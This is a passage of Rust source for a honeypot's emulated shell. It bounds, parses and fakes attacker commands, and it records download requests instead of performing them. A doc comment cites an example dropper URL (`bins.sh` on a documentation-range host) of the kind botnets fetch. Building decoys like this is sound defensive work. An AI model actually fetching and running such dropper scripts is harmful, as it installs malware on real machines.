//! The decoy's shell: a bounded command-line parser and the emulated commands.
//!
//! Nothing here executes or fetches anything: every command is a pure function of its
//! arguments, its standard input, the [`HostProfile`] and the session's own in-memory
//! filesystem ([`Fs`]), so the whole shell is sans-I/O and tested with plain unit tests
//! (including every fixture line attackers really typed). Download commands (`wget`, `curl`,
//! `tftp`, `ftpget`, `busybox wget`) only record what they were asked to fetch
//! ([`Output::downloads`]) and print a plausible failure.
//!
//! Why shaped so:
//! - **Bounded before parsed.** Cowrie spent over a minute and ~119 GB on one 3 KB command line;
//!   here a line is cut at [`MAX_LINE`], tokenising stops at [`MAX_TOKENS`], command
//!   substitution nests at most [`MAX_SUBST_DEPTH`] deep, `sh -c` and scripts at most
//!   [`MAX_NEST`] deep, one line runs at most [`MAX_STEPS`] simple commands, and every output
//!   is cut at [`MAX_OUTPUT`], so the cost of one line is small whatever the input. The
//!   filesystem has its own byte and entry budgets ([`fs::MAX_BYTES`], [`fs::MAX_NODES`]).
//! - **One host profile.** `uname`, `/proc/cpuinfo`, `/proc/meminfo`, `free`, `nproc`, `lscpu`
//!   and the prompt all read the same [`HostProfile`], so a bot cross-checking them sees one
//!   consistent machine (Cowrie's mismatches are how bots spot it).
//! - **Bash's words for bash's errors.** Unknown commands answer exactly as bash does, and
//!   file errors carry the coreutils' messages.
//! - **Stages from what ran.** [`Output::stages`] is computed per simple command actually run
//!   (so it sees inside `$(...)`, `sh -c` and scripts, and skips what `&&`/`||` skipped), with
//!   the same rules as [`classify_command`](super::stage::classify_command).

use std::collections::{BTreeMap, VecDeque};
use std::time::SystemTime;

use super::fs::{self, Fs, FsError, Kind};
use super::profile::HostProfile;
use super::stage::{self, StageSet};

/// Longest command line accepted (bytes); the rest is dropped.
pub const MAX_LINE: usize = 4096;
/// Most tokens (words and operators) parsed from one line; the rest is ignored.
pub const MAX_TOKENS: usize = 256;
/// Deepest nesting of `$(...)` / backticks that is expanded.
pub const MAX_SUBST_DEPTH: usize = 2;
/// Largest output of one command line (bytes).
pub const MAX_OUTPUT: usize = 64 * 1024;
/// Deepest nesting of `sh -c '...'` and scripts run from the session's files.
pub const MAX_NEST: usize = 4;
/// Most simple commands one line may run, counting those in `sh -c`, scripts and `$(...)`.
pub const MAX_STEPS: usize = 1024;
/// Most downloads recorded for one line.
pub const MAX_DOWNLOADS: usize = 32;
/// Stands for `$?` in a parsed word until the command runs (a private-use character).
const STATUS_MARK: char = '\u{F8FF}';
/// Most words a glob may expand to.
const MAX_GLOB: usize = 512;
/// Most variables a session may set, and the longest value kept.
const MAX_VARS: usize = 64;
const MAX_VAR_LEN: usize = 1024;
/// Most lines kept for `history`, and password changes kept.
const MAX_HISTORY: usize = 200;
const MAX_PASSWORDS: usize = 16;

/// A fetch the attacker asked for (nothing is fetched): the server turns each into a Cowrie
/// `cowrie.session.file_download` event.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Download {
    /// What was asked for, e.g. `http://198.51.100.23/bins.sh` (`tftp://host/file` and
    /// `ftp://host/file` for TFTP and FTP); `http://` is added when the scheme is missing.
    pub url: String,
    /// Absolute path the file would have been saved to (`None`: standard output).
    pub outfile: Option<String>,
    /// The command: `"wget"`, `"curl"`, `"tftp"`, `"ftpget"`, `"busybox wget"`,
    /// `"busybox tftp"` or `"busybox ftpget"`.
    pub tool: &'static str,
}

/// What running one command line produced.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Output {
    /// Standard output.
    pub out: String,
    /// Standard error.
    pub err: String,
    /// Exit status of the last pipeline.
    pub status: i32,
    /// The shell should end after this line (`exit`, `logout`).
    pub exit: bool,
    /// Command names that bash would not have found (for `cowrie.command.failed`).
    pub not_found: Vec<String>,
    /// Fetches asked for, in order (at most [`MAX_DOWNLOADS`]).
    pub downloads: Vec<Download>,
    /// Attack-chain stages of the commands that actually ran (never spray or tunnel).
    pub stages: StageSet,
}

impl Output {
    fn ok(out: String) -> Self {
        Self {
            out,
            ..Self::default()
        }
    }

    fn fail(err: String, status: i32) -> Self {
        Self {
            err,
            status,
            ..Self::default()
        }
    }

    /// Add what a nested run produced (not its status).
    fn absorb(&mut self, o: Output) {
        push_bounded(&mut self.out, &o.out);
        push_bounded(&mut self.err, &o.err);
        self.merge_records(o.not_found, o.downloads, o.stages);
        self.exit |= o.exit;
    }

    fn merge_records(&mut self, not_found: Vec<String>, downloads: Vec<Download>, st: StageSet) {
        for n in not_found {
            if self.not_found.len() < MAX_DOWNLOADS {
                self.not_found.push(n);
            }
        }
        for d in downloads {
            if self.downloads.len() < MAX_DOWNLOADS {
                self.downloads.push(d);
            }
        }
        self.stages |= st;
    }
}

/// A lexical token.
#[derive(Debug, Clone, PartialEq, Eq)]
enum Tok {
    /// A word, and whether it holds an unquoted `*`/`?` (a glob to expand).
    Word(String, bool),
    /// `;` or a newline.
    Seq,
    And,
    Or,
    Pipe,
    /// `&` (background): treated as a sequence point.
    Amp,
    /// A redirection (`>`, `>>`, `<`, `2>`, `2>&1`, ...); its target word follows.
    Redir(String),
}

/// Split a line into tokens: quotes (`'...'`, `"..."`), backslash escapes, `$VAR`/`${VAR}`
/// (looked up with `var`; unset is empty), a leading `~`, `#` comments, the operators
/// `; && || | &` and redirections; `(`/`)` only split words. Never panics; stops at
/// [`MAX_TOKENS`].
fn tokenize(line: &str, var: &dyn Fn(&str) -> Option<String>) -> Vec<Tok> {
    let mut toks = Vec::new();
    let mut cur = String::new();
    let mut in_word = false;
    let mut glob = false;
    let mut chars = line.chars().peekable();
    macro_rules! flush {
        () => {
            if in_word {
                toks.push(Tok::Word(std::mem::take(&mut cur), glob));
                in_word = false;
                glob = false;
            }
        };
    }
    // `$NAME`, `${NAME}`, `$?`, `$$`, `$0`..`$9`; anything else leaves the `$`.
    let dollar = |chars: &mut std::iter::Peekable<std::str::Chars<'_>>, cur: &mut String| {
        let mut name = String::new();
        match chars.peek().copied() {
            Some('{') => {
                chars.next();
                for c in chars.by_ref() {
                    if c == '}' {
                        break;
                    }
                    if name.len() < 64 {
                        name.push(c);
                    }
                }
            }
            Some(c @ ('?' | '$' | '#' | '0'..='9')) => {
                chars.next();
                name.push(c);
            }
            Some(c) if c.is_ascii_alphabetic() || c == '_' => {
                while let Some(c) = chars.peek().copied() {
                    if !(c.is_ascii_alphanumeric() || c == '_') || name.len() >= 64 {
                        break;
                    }
                    name.push(c);
                    chars.next();
                }
            }
            _ => {
                cur.push('$');
                return;
            }
        }
        if name == "?" {
            // Expanded when the command runs, after the previous one set it.
            cur.push(STATUS_MARK);
        } else if let Some(v) = var(&name) {
            cur.push_str(cut(&v, MAX_VAR_LEN));
        }
    };
    while let Some(c) = chars.next() {
        if toks.len() >= MAX_TOKENS || cur.len() > MAX_LINE {
            break;
        }
        match c {
            ' ' | '\t' | '\r' | '(' | ')' => flush!(),
            '#' if !in_word => {
                // A comment runs to the end of the line.
                for n in chars.by_ref() {
                    if n == '\n' {
                        toks.push(Tok::Seq);
                        break;
                    }
                }
            }
            '~' if !in_word
                && matches!(
                    chars.peek(),
                    None | Some(' ' | '/' | ';' | '\t' | '\n' | '|' | '&' | ')')
                ) =>
            {
                in_word = true;
                cur.push_str(&var("HOME").unwrap_or_default());
            }
            '$' => {
                in_word = true;
                dollar(&mut chars, &mut cur);
            }
            '*' | '?' => {
                in_word = true;
                glob = true;
                cur.push(c);
            }
            '\n' | ';' => {
                flush!();
                toks.push(Tok::Seq);
            }
            '&' => {
                flush!();
                if chars.peek() == Some(&'&') {
                    chars.next();
                    toks.push(Tok::And);
                } else {
                    toks.push(Tok::Amp);
                }
            }
            '|' => {
                flush!();
                if chars.peek() == Some(&'|') {
                    chars.next();
                    toks.push(Tok::Or);
                } else {
                    toks.push(Tok::Pipe);
                }
            }
            '>' | '<' => {
                // `2>` / `1>`: a lone digit word just before the operator is its fd.
                let mut op = String::new();
                if in_word && (cur == "1" || cur == "2") {
                    op.push_str(&cur);
                    cur.clear();
                    in_word = false;
                    glob = false;
                } else {
                    flush!();
                }
                op.push(c);
                if c == '>' && chars.peek() == Some(&'>') {
                    chars.next();
                    op.push('>');
                }
                if chars.peek() == Some(&'&') {
                    chars.next();
                    op.push('&');
                    let mut fd = String::new();
                    while let Some(d) = chars.peek().copied().filter(char::is_ascii_digit) {
                        chars.next();
                        if fd.len() < 4 {
                            fd.push(d);
                        }
                    }
                    op.push_str(&fd);
                    toks.push(Tok::Redir(op));
                    continue;
                }
                toks.push(Tok::Redir(op));
            }
            '\'' => {
                in_word = true;
                for q in chars.by_ref() {
                    if q == '\'' {
                        break;
                    }
                    cur.push(q);
                }
            }
            '"' => {
                in_word = true;
                while let Some(q) = chars.next() {
                    match q {
                        '"' => break,
                        '\\' => match chars.peek() {
                            Some(&n @ ('"' | '\\' | '$' | '`')) => {
                                chars.next();
                                cur.push(n);
                            }
                            _ => cur.push('\\'),
                        },
                        '$' => dollar(&mut chars, &mut cur),
                        _ => cur.push(q),
                    }
                }
            }
            '\\' => {
                in_word = true;
                if let Some(n) = chars.next() {
                    if n != '\n' {
                        cur.push(n);
                    }
                }
            }
            _ => {
                in_word = true;
                cur.push(c);
            }
        }
    }
    if in_word {
        toks.push(Tok::Word(cur, glob));
    }
    toks.truncate(MAX_TOKENS);
    toks
}

/// A redirection of one simple command.
#[derive(Debug, Clone)]
struct Redir {
    /// 0 (`<`), 1 (`>`, `>>`, `1>`) or 2 (`2>`, `2>>`).
    fd: u8,
    append: bool,
    target: String,
}

/// One simple command: its words (and which are globs) and its redirections.
#[derive(Debug, Default)]
struct Simple {
    words: Vec<(String, bool)>,
    redirs: Vec<Redir>,
    /// `2>&1`: standard error joins standard output.
    err_to_out: bool,
    /// `>&2`/`1>&2`: standard output goes to standard error.
    out_to_err: bool,
}

/// How a pipeline joins the previous one.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Join {
    Always,
    And,
    Or,
}

/// A line as `(join, pipeline)` pairs.
fn parse(toks: Vec<Tok>) -> Vec<(Join, Vec<Simple>)> {
    let mut lists = Vec::new();
    let mut join = Join::Always;
    let mut pipeline: Vec<Simple> = Vec::new();
    let mut cmd = Simple::default();
    let mut toks = toks.into_iter().peekable();
    let end_pipeline =
        |pipeline: &mut Vec<Simple>, cmd: &mut Simple, lists: &mut Vec<_>, join: Join| {
            if !cmd.words.is_empty() || !cmd.redirs.is_empty() {
                pipeline.push(std::mem::take(cmd));
            }
            if !pipeline.is_empty() {
                lists.push((join, std::mem::take(pipeline)));
            }
        };
    while let Some(t) = toks.next() {
        match t {
            Tok::Word(w, g) => cmd.words.push((w, g)),
            Tok::Pipe => {
                pipeline.push(std::mem::take(&mut cmd));
            }
            Tok::Seq | Tok::Amp => {
                end_pipeline(&mut pipeline, &mut cmd, &mut lists, join);
                join = Join::Always;
            }
            Tok::And => {
                end_pipeline(&mut pipeline, &mut cmd, &mut lists, join);
                join = Join::And;
            }
            Tok::Or => {
                end_pipeline(&mut pipeline, &mut cmd, &mut lists, join);
                join = Join::Or;
            }
            Tok::Redir(op) => {
                if op.contains('&') {
                    if op.starts_with('2') && op.ends_with('1') {
                        cmd.err_to_out = true;
                    } else if op.ends_with('2') {
                        cmd.out_to_err = true;
                    }
                    continue;
                }
                // The target word follows; without one bash reports a syntax error, here the
                // operator is dropped.
                if let Some(Tok::Word(..)) = toks.peek() {
                    if let Some(Tok::Word(target, _)) = toks.next() {
                        cmd.redirs.push(Redir {
                            fd: if op.starts_with('2') {
                                2
                            } else if op.contains('<') {
                                0
                            } else {
                                1
                            },
                            append: op.contains(">>"),
                            target,
                        });
                    }
                }
            }
        }
    }
    end_pipeline(&mut pipeline, &mut cmd, &mut lists, join);
    lists
}

/// One simple command of a line as [`stage`] reads it.
pub(crate) struct CommandView {
    /// Its words (variables expand to nothing, globs stay as typed).
    pub words: Vec<String>,
    /// Files its standard output or error is written to.
    pub writes: Vec<String>,
    /// Whether its standard output reaches the terminal (last in its pipeline, not
    /// redirected).
    pub to_terminal: bool,
}

/// The simple commands of a line, without running anything (for [`stage::classify_command`]).
pub(crate) fn simple_commands(line: &str) -> Vec<CommandView> {
    let none = |name: &str| (name == "HOME").then(|| "~".to_owned());
    let mut out = Vec::new();
    for (_, pipeline) in parse(tokenize(cut(line, MAX_LINE), &none)) {
        let n = pipeline.len();
        for (k, s) in pipeline.into_iter().enumerate() {
            let redirected = s.redirs.iter().any(|r| r.fd == 1) || s.out_to_err;
            out.push(CommandView {
                words: s.words.into_iter().map(|(w, _)| w).collect(),
                writes: s
                    .redirs
                    .into_iter()
                    .filter(|r| r.fd != 0)
                    .map(|r| r.target)
                    .collect(),
                to_terminal: k + 1 == n && !redirected,
            });
        }
    }
    out
}

/// The texts of the `$(...)` and backtick substitutions of a line (outermost only).
pub(crate) fn substitutions(line: &str) -> Vec<&str> {
    let mut found: Vec<(usize, usize)> = Vec::new();
    let mut record = |inner: &str| {
        found.push((inner.as_ptr() as usize, inner.len()));
        String::new()
    };
    let _ = expand_substitutions(line, 0, &mut record);
    let start = line.as_ptr() as usize;
    found
        .into_iter()
        .filter_map(|(p, len)| {
            let off = p.checked_sub(start)?;
            line.get(off..off + len)
        })
        .collect()
}

/// Replace `$(...)` and backtick substitutions (outside single quotes) by the output of
/// `run`, nested at most [`MAX_SUBST_DEPTH`] deep. Unbalanced input is left as it is.
fn expand_substitutions(line: &str, depth: usize, run: &mut dyn FnMut(&str) -> String) -> String {
    if depth >= MAX_SUBST_DEPTH || !(line.contains("$(") || line.contains('`')) {
        return line.to_owned();
    }
    let b = line.as_bytes();
    let mut out = String::with_capacity(line.len());
    let mut i = 0;
    let mut last = 0;
    let mut in_single = false;
    while i < b.len() {
        match b[i] {
            b'\'' => in_single = !in_single,
            b'$' if !in_single && b.get(i + 1) == Some(&b'(') => {
                let mut level = 0usize;
                let mut j = i + 1;
                let mut close = None;
                while j < b.len() {
                    match b[j] {
                        b'(' => level += 1,
                        b')' => {
                            level -= 1;
                            if level == 0 {
                                close = Some(j);
                                break;
                            }
                        }
                        _ => {}
                    }
                    j += 1;
                }
                if let Some(j) = close {
                    out.push_str(&line[last..i]);
                    out.push_str(run(&line[i + 2..j]).trim_end_matches('\n'));
                    i = j + 1;
                    last = i;
                    continue;
                }
            }
            b'`' if !in_single => {
                if let Some(off) = line[i + 1..].find('`') {
                    let j = i + 1 + off;
                    out.push_str(&line[last..i]);
                    out.push_str(run(&line[i + 1..j]).trim_end_matches('\n'));
                    i = j + 1;
                    last = i;
                    continue;
                }
            }
            _ => {}
        }
        i += 1;
    }
    out.push_str(&line[last..]);
    out
}

/// Every command the shell emulates (builtins and programs), as typed; anything else answers
/// `command not found` as bash does. `busybox` runs the ones in [`BUSYBOX_APPLETS`].
pub const COMMANDS: &[&str] = &[
    "arch", "awk", "base64", "bash", "busybox", "cat", "cd", "chattr", "chmod", "chown",
    "chpasswd", "clear", "cp", "crontab", "curl", "cut", "dash", "date", "df", "echo", "env",
    "exit", "export", "false", "free", "grep", "head", "history", "hostname", "id", "ifconfig",
    "ip", "kill", "killall", "logout", "ls", "lsattr", "lscpu", "mkdir", "mv", "nohup", "nproc",
    "passwd", "pkill", "printf", "ps", "pwd", "rm", "set", "sh", "sleep", "sort", "ssh", "sudo",
    "sync", "tail", "tee", "tftp", "top", "touch", "true", "type", "ulimit", "umask", "uname",
    "uniq", "unset", "uptime", "useradd", "w", "wc", "wget", "which", "who", "whoami",
];

/// `ssh`: `-V` names the same OpenSSH as the banner (as Debian's client and server share a
/// version); anything that would connect out fails as a firewalled host does, never connecting.
fn ssh_client(p: &HostProfile, args: &[&str]) -> Output {
    if args.contains(&"-V") {
        return Output {
            err: format!("{}, OpenSSL 3.0.15 3 Sep 2024\n", p.ssh_version),
            ..Output::default()
        };
    }
    let host = args
        .iter()
        .rev()
        .find(|a| !a.starts_with('-'))
        .map(|h| h.rsplit('@').next().unwrap_or(h));
    match host {
        Some(h) => Output {
            err: format!("ssh: connect to host {h} port 22: Connection timed out\n"),
            status: 255,
            ..Output::default()
        },
        None => Output {
            err: "usage: ssh [-46AaCfGgKkMNnqsTtVvXxYy] [-B bind_interface] [-b bind_address]\n           [-c cipher_spec] [-D [bind_address:]port] [-E log_file]\n           [-e escape_char] [-F configfile] [-I pkcs11] [-i identity_file]\n           [-J destination] [-L address] [-l login_name] [-m mac_spec]\n           [-O ctl_cmd] [-o option] [-P tag] [-p port] [-Q query_option]\n           [-R address] [-S ctl_path] [-W host:port] [-w local_tun[:remote_tun]]\n           destination [command [argument ...]]\n".into(),
            status: 255,
            ..Output::default()
        },
    }
}

/// Applets `busybox` answers to (others: `applet not found`, as a real busybox says).
pub const BUSYBOX_APPLETS: &[&str] = &[
    "arch", "awk", "base64", "cat", "chmod", "chown", "cp", "cut", "date", "df", "echo", "env",
    "false", "free", "ftpget", "grep", "head", "hostname", "id", "ifconfig", "ip", "kill",
    "killall", "ls", "mkdir", "mv", "nohup", "nproc", "pkill", "printf", "ps", "pwd", "rm", "sh",
    "sleep", "sort", "tail", "tee", "tftp", "top", "touch", "true", "uname", "uniq", "uptime", "w",
    "wc", "wget", "which", "whoami",
];

/// How the current command line is being read: errors name the shell as it would.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Ctx {
    /// The interactive login shell (`-bash: x: command not found`).
    Login,
    /// `bash -c` / `bash FILE` (`bash: line 1: x: command not found`).
    Bash,
    /// `sh -c` / `sh FILE`: Debian's sh is dash (`sh: 1: x: not found`).
    Dash,
}

/// Processes `ps`, `top`, `kill` and `pkill` see: (pid, user, command line).
const PROCS: &[(u32, &str, &str)] = &[
    (1, "root", "/sbin/init"),
    (2, "root", "[kthreadd]"),
    (3, "root", "[rcu_gp]"),
    (4, "root", "[rcu_par_gp]"),
    (12, "root", "[ksoftirqd/0]"),
    (13, "root", "[rcu_preempt]"),
    (14, "root", "[migration/0]"),
    (311, "root", "/lib/systemd/systemd-journald"),
    (339, "root", "/lib/systemd/systemd-udevd"),
    (512, "systemd+", "/lib/systemd/systemd-timesyncd"),
    (587, "root", "/usr/sbin/cron -f"),
    (
        590,
        "message+",
        "/usr/bin/dbus-daemon --system --address=systemd: --nofork --nopidfile --systemd-activation --syslog-only",
    ),
    (596, "root", "/usr/sbin/rsyslogd -n -iNONE"),
    (601, "root", "/lib/systemd/systemd-logind"),
    (655, "root", "/sbin/agetty -o -p -- \\u --noclear - linux"),
    (
        662,
        "root",
        "sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups",
    ),
    (2701, "root", "sshd: root@pts/0"),
];
/// The session's own shell.
const SHELL_PID: u32 = 2718;

fn unix(t: SystemTime) -> i64 {
    chrono::DateTime::<chrono::Utc>::from(t).timestamp()
}

/// The per-session shell: working directory, variables, filesystem and the host it pretends
/// to be.
#[derive(Debug, Clone)]
pub struct Shell {
    profile: HostProfile,
    cwd: String,
    user: String,
    /// Wall-clock time for `uptime`, `w`, `date`-like output; set by the caller (the shell
    /// never reads the clock itself).
    now: SystemTime,
    fs: Fs,
    vars: BTreeMap<String, String>,
    history: VecDeque<String>,
    passwords: Vec<(String, String)>,
    last_status: i32,
    /// `sh -c` / script nesting of the command running now.
    nest: usize,
    /// Simple commands run for the current line.
    steps: usize,
    ctx: Ctx,
}

impl Shell {
    /// A shell logged in as `user` on `profile`, at time `now`.
    pub fn new(profile: HostProfile, user: &str, now: SystemTime) -> Self {
        let user = if user.is_empty() { "root" } else { user };
        let home = if user == "root" {
            "/root".to_owned()
        } else {
            format!("/home/{user}")
        };
        let mut fs = Fs::new(&profile, user);
        fs.set_now(unix(now));
        let path = if user == "root" {
            "/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin"
        } else {
            "/usr/local/bin:/usr/bin:/bin:/usr/local/games:/usr/games"
        };
        let vars = [
            ("HOME", home.as_str()),
            ("LANG", "C.UTF-8"),
            ("LOGNAME", user),
            ("PATH", path),
            ("SHELL", "/bin/bash"),
            ("TERM", "xterm-256color"),
            ("USER", user),
        ]
        .into_iter()
        .map(|(k, v)| (k.to_owned(), v.to_owned()))
        .collect();
        Self {
            profile,
            cwd: home,
            user: user.to_owned(),
            now,
            fs,
            vars,
            history: VecDeque::new(),
            passwords: Vec::new(),
            last_status: 0,
            nest: 0,
            steps: 0,
            ctx: Ctx::Login,
        }
    }

    /// Move the shell's clock (call before each line with the current time).
    pub fn set_now(&mut self, now: SystemTime) {
        self.now = now;
        self.fs.set_now(unix(now));
    }

    /// The session's view of the filesystem.
    pub fn fs(&self) -> &Fs {
        &self.fs
    }

    /// Passwords set with `chpasswd` or `passwd` in this session, as `(user, password)`
    /// (at most 16, the first ones).
    pub fn password_changes(&self) -> &[(String, String)] {
        &self.passwords
    }

    fn clock(&self) -> chrono::DateTime<chrono::Utc> {
        chrono::DateTime::<chrono::Utc>::from(self.now)
    }

    /// The interactive prompt, e.g. `root@web-03:~# `.
    pub fn prompt(&self) -> String {
        let home = self.home();
        let dir = if self.cwd == home {
            "~".to_owned()
        } else if let Some(rest) = self.cwd.strip_prefix(&format!("{home}/")) {
            format!("~/{rest}")
        } else {
            self.cwd.clone()
        };
        let sigil = if self.user == "root" { '#' } else { '$' };
        format!("{}@{}:{dir}{sigil} ", self.user, self.profile.hostname)
    }

    fn home(&self) -> String {
        if self.user == "root" {
            "/root".into()
        } else {
            format!("/home/{}", self.user)
        }
    }

    /// Run one command line. Never panics; cost is bounded by the `MAX_*` constants.
    pub fn run(&mut self, line: &str) -> Output {
        let line = cut(line, MAX_LINE);
        if !line.trim().is_empty() {
            if self.history.len() >= MAX_HISTORY {
                self.history.pop_front();
            }
            self.history
                .push_back(cut(line.trim_end(), 1024).to_owned());
        }
        self.steps = 0;
        self.nest = 0;
        self.ctx = Ctx::Login;
        let o = self.run_depth(line, 0);
        self.last_status = o.status;
        o
    }

    fn lookup(&self, name: &str) -> Option<String> {
        match name {
            "?" => Some(self.last_status.to_string()),
            "$" => Some(SHELL_PID.to_string()),
            "0" => Some(
                if self.ctx == Ctx::Login {
                    "-bash"
                } else {
                    "sh"
                }
                .to_owned(),
            ),
            "#" => Some("0".to_owned()),
            "PWD" => Some(self.cwd.clone()),
            n => self.vars.get(n).cloned(),
        }
    }

    fn abs(&self, path: &str) -> String {
        fs::normalize(&self.cwd, path)
    }

    fn run_depth(&mut self, line: &str, depth: usize) -> Output {
        let mut total = Output::default();
        let expanded = {
            let mut sub = |inner: &str| {
                let mut o = self.run_depth(inner, depth + 1);
                let out = std::mem::take(&mut o.out);
                o.exit = false;
                total.absorb(o);
                out
            };
            expand_substitutions(line, depth, &mut sub)
        };
        let toks = tokenize(cut(&expanded, MAX_LINE), &|n| self.lookup(n));
        for (join, pipeline) in parse(toks) {
            let skip = match join {
                Join::Always => false,
                Join::And => total.status != 0,
                Join::Or => total.status == 0,
            };
            if skip {
                continue;
            }
            let mut stdin = String::new();
            let mut status = 0;
            let n = pipeline.len();
            for (k, simple) in pipeline.into_iter().enumerate() {
                if self.steps >= MAX_STEPS {
                    return total;
                }
                self.steps += 1;
                let mut o = self.pipeline_stage(simple, std::mem::take(&mut stdin), k + 1 == n);
                let not_found = std::mem::take(&mut o.not_found);
                let downloads = std::mem::take(&mut o.downloads);
                total.merge_records(not_found, downloads, o.stages);
                push_bounded(&mut total.err, &o.err);
                status = o.status;
                total.exit |= o.exit;
                if k + 1 == n {
                    push_bounded(&mut total.out, &o.out);
                } else {
                    stdin = o.out;
                }
                if total.exit {
                    break;
                }
            }
            total.status = status;
            self.last_status = status;
            if total.exit {
                break;
            }
        }
        total
    }

    /// One command of a pipeline: globs, redirections, the command itself, its stages.
    fn pipeline_stage(&mut self, simple: Simple, stdin: String, last: bool) -> Output {
        let status = self.last_status.to_string();
        let words: Vec<(String, bool)> = simple
            .words
            .into_iter()
            .map(|(w, g)| (w.replace(STATUS_MARK, &status), g))
            .collect();
        let words = self.expand_globs(words);
        let words: Vec<&str> = words.iter().map(String::as_str).collect();
        let mut input = stdin;
        let mut failed = None;
        for r in simple.redirs.iter().filter(|r| r.fd == 0) {
            match self.fs.read(&self.abs(&r.target)) {
                Ok(t) => input = cut(t, MAX_OUTPUT).to_owned(),
                Err(e) => {
                    failed = Some(format!("-bash: {}: {}\n", r.target, e.message()));
                    break;
                }
            }
        }
        let mut o = match failed {
            Some(err) => Output::fail(err, 1),
            None => self.simple(&words, &input),
        };
        // Every command's output is bounded, also between the stages of a pipeline.
        truncate_bounded(&mut o.out);
        truncate_bounded(&mut o.err);
        let writes: Vec<&str> = simple
            .redirs
            .iter()
            .filter(|r| r.fd != 0)
            .map(|r| r.target.as_str())
            .collect();
        let to_terminal = last && !simple.out_to_err && !simple.redirs.iter().any(|r| r.fd == 1);
        o.stages |= stage::classify_words(&words, &writes, to_terminal);
        if simple.err_to_out {
            let e = std::mem::take(&mut o.err);
            push_bounded(&mut o.out, &e);
        }
        if simple.out_to_err {
            let x = std::mem::take(&mut o.out);
            push_bounded(&mut o.err, &x);
        }
        for r in simple.redirs.iter().filter(|r| r.fd != 0) {
            let data = if r.fd == 1 {
                std::mem::take(&mut o.out)
            } else {
                std::mem::take(&mut o.err)
            };
            let path = self.abs(&r.target);
            if let Err(e) = self.fs.write(&path, &data, r.append, &self.user) {
                let msg = if e == FsError::NoSpace {
                    let name = words.first().copied().unwrap_or("bash");
                    format!("-bash: {name}: write error: {}\n", e.message())
                } else {
                    format!("-bash: {}: {}\n", r.target, e.message())
                };
                push_bounded(&mut o.err, &msg);
                o.status = 1;
            }
        }
        o
    }

    /// Expand unquoted `*`/`?` in a word's last component against the filesystem; no match
    /// leaves the word as typed (as bash does without `nullglob`).
    fn expand_globs(&self, words: Vec<(String, bool)>) -> Vec<String> {
        let mut out = Vec::with_capacity(words.len());
        let mut budget = MAX_GLOB;
        for (w, glob) in words {
            if !glob || budget == 0 {
                out.push(w);
                continue;
            }
            let (prefix, pat) = match w.rfind('/') {
                Some(i) => (&w[..=i], &w[i + 1..]),
                None => ("", w.as_str()),
            };
            if prefix.contains(['*', '?']) || pat.is_empty() {
                out.push(w);
                continue;
            }
            let dir = self.abs(if prefix.is_empty() { "." } else { prefix });
            let mut hits: Vec<String> = self
                .fs
                .list(&dir)
                .unwrap_or_default()
                .into_iter()
                .filter(|(name, _)| pat.starts_with('.') || !name.starts_with('.'))
                .filter(|(name, _)| wildcard(pat, name))
                .take(budget)
                .map(|(name, _)| format!("{prefix}{name}"))
                .collect();
            if hits.is_empty() {
                out.push(w);
            } else {
                budget -= hits.len();
                out.append(&mut hits);
            }
        }
        out
    }

    /// Run text (a script file, `sh -c` string or piped input) one line at a time in a
    /// nested shell context; `exit` there ends only the script.
    fn run_script(&mut self, text: &str, ctx: Ctx) -> Output {
        let mut total = Output::default();
        if self.nest >= MAX_NEST {
            return total;
        }
        self.nest += 1;
        let saved = self.ctx;
        self.ctx = ctx;
        for line in text.lines().take(MAX_TOKENS) {
            if self.steps >= MAX_STEPS {
                break;
            }
            let o = self.run_depth(cut(line, MAX_LINE), MAX_SUBST_DEPTH - 1);
            total.status = o.status;
            let exit = o.exit;
            total.absorb(o);
            if exit {
                break;
            }
        }
        total.exit = false;
        self.ctx = saved;
        self.nest -= 1;
        total
    }

    fn not_found(&self, name: &str) -> Output {
        let err = match self.ctx {
            Ctx::Login => format!("-bash: {name}: command not found\n"),
            Ctx::Bash => format!("bash: line 1: {name}: command not found\n"),
            Ctx::Dash => format!("sh: 1: {name}: not found\n"),
        };
        let mut o = Output::fail(err, 127);
        o.not_found.push(cut(name, 256).to_owned());
        o
    }

    /// One simple command with its standard input.
    fn simple(&mut self, words: &[&str], stdin: &str) -> Output {
        // Leading `VAR=value` assignments apply to the command only (ignored here); alone,
        // they set shell variables.
        let n_assign = words.iter().take_while(|w| is_assignment(w)).count();
        if n_assign == words.len() {
            for w in words {
                self.set_var(w);
            }
            return Output::default();
        }
        let Some((&name, args)) = words[n_assign..].split_first() else {
            return Output::default();
        };
        if name.contains('/') {
            return self.run_path(name, args, stdin);
        }
        self.dispatch(name, args, stdin)
    }

    fn set_var(&mut self, assignment: &str) {
        if let Some((k, v)) = assignment.split_once('=') {
            if self.vars.len() < MAX_VARS || self.vars.contains_key(k) {
                self.vars
                    .insert(cut(k, 64).to_owned(), cut(v, MAX_VAR_LEN).to_owned());
            }
        }
    }

    /// A command named by path (`./x`, `/tmp/.x`, `/bin/busybox`).
    fn run_path(&mut self, name: &str, args: &[&str], stdin: &str) -> Output {
        let path = self.abs(name);
        let prefix = match self.ctx {
            Ctx::Login => "-bash",
            Ctx::Bash => "bash: line 1",
            Ctx::Dash => "sh: 1",
        };
        let err = |msg: &str, status| Output::fail(format!("{prefix}: {name}: {msg}\n"), status);
        let Some(node) = self.fs.get(&path) else {
            return err(FsError::NotFound.message(), 127);
        };
        if node.is_dir() || matches!(node.kind, Kind::Link(_)) {
            return err("Is a directory", 126);
        }
        if node.mode & 0o111 == 0 {
            return err("Permission denied", 126);
        }
        match &node.kind {
            Kind::Bin(_) => {
                let base = fs::base_name(&path);
                if COMMANDS.contains(&base) && (path.starts_with("/usr/")) {
                    self.dispatch(base, args, stdin)
                } else {
                    err("cannot execute binary file: Exec format error", 126)
                }
            }
            Kind::File(text) if text.starts_with("\u{7f}ELF") || text.contains('\0') => {
                err("cannot execute binary file: Exec format error", 126)
            }
            Kind::File(text) => {
                let text = text.clone();
                let ctx = if text.starts_with("#!/bin/bash") {
                    Ctx::Bash
                } else {
                    Ctx::Dash
                };
                self.run_script(&text, ctx)
            }
            Kind::Dir | Kind::Link(_) => err("Is a directory", 126),
        }
    }

    fn dispatch(&mut self, name: &str, args: &[&str], stdin: &str) -> Output {
        let p = &self.profile;
        let ok = Output::ok;
        match name {
            "echo" => ok(echo(args)),
